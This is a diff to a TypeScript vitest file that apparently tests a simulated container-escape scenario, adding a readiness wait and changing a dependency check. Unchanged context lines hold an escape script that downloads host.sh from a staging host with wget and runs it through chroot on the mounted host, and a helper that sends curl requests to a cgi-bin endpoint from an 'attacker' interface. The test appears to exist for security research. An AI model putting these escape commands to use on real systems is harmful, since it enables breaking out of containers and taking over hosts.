@@ -2,7 +2,7 @@
 import { copyFileSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
 import { lacksKernel } from '../live/kernel.ts';
 import { hostAddress, lacksScenario, type ScenarioHost } from '../scenario-host.ts';
 import { reported } from './report.ts';
@@ -37,7 +37,7 @@ async function runContainer(host: ScenarioHost): Promise<void> {
   await host.service('docker', `[Service]\nExecStart=/usr/sbin/runc run -b ${docker}/bundle ${id}\n`);
 }
 
-describe.skipIf(lacksScenario(['/usr/sbin/runc', '/usr/bin/busybox', '/usr/sbin/rsyslogd', '/usr/sbin/cron', '/usr/bin/socat', '/usr/bin/python3']) || await lacksKernel())('(f) out of a container, to stay on the host', () => {
+describe.skipIf(lacksScenario(['/usr/sbin/runc', '/usr/share/doc/busybox-static', '/usr/sbin/rsyslogd', '/usr/sbin/cron', '/usr/bin/socat', '/usr/bin/python3']) || await lacksKernel())('(f) out of a container, to stay on the host', () => {
   const kit = mkdtempSync(join(tmpdir(), 'moat-kit-'));
   let scene: Scene;
   const ask = async (what: string, from = attacker): Promise<string> => (await scene.host.outside('/usr/bin/curl', ['-sS', '--max-time', '8', '--interface', from, `http://${hostAddress}:8080/cgi-bin/find?${encodeURIComponent(what)}`])).stdout;
@@ -55,6 +55,8 @@ describe.skipIf(lacksScenario(['/usr/sbin/runc', '/usr/bin/busybox', '/usr/sbin/
     writeFileSync(join(kit, 'out.sh'), `#!/bin/sh\nwget -q -O /host/tmp/.host.sh http://${depot}/host.sh\nchroot /host /bin/bash /tmp/.host.sh\n`);
     await serveFiles(scene.host, kit);
     await servePool(scene.host);
+    // The unit has begun; what runs in the container listens a moment later.
+    await vi.waitUntil(async () => (await ask('index.html', visitor)).includes('gallery'), { timeout: 30_000, interval: 200 });
   });
   afterAll(async () => {
     await scene?.end();
